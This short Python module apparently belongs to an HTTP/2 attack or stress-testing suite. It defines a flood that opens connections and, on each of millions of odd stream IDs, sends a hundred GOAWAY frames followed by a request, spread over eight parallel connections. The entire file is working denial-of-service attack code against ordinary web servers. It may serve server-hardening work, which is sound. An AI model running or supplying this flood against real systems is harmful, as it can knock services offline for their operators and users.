"""GOAWAY frames, one after another, between requests in progress."""

import frames
from attack import Attack

ATTACK = Attack()


async def run(target):
    goaway = frames.frame(frames.GOAWAY, payload=b"\0\0\0\0\0\0\0\0")
    head = frames.head(b"/small")

    def batches():
        for stream in range(1, 1 << 24, 2):
            yield goaway * 100 + frames.request(stream, head)

    return await target.flood(8, frames.opening(), batches)
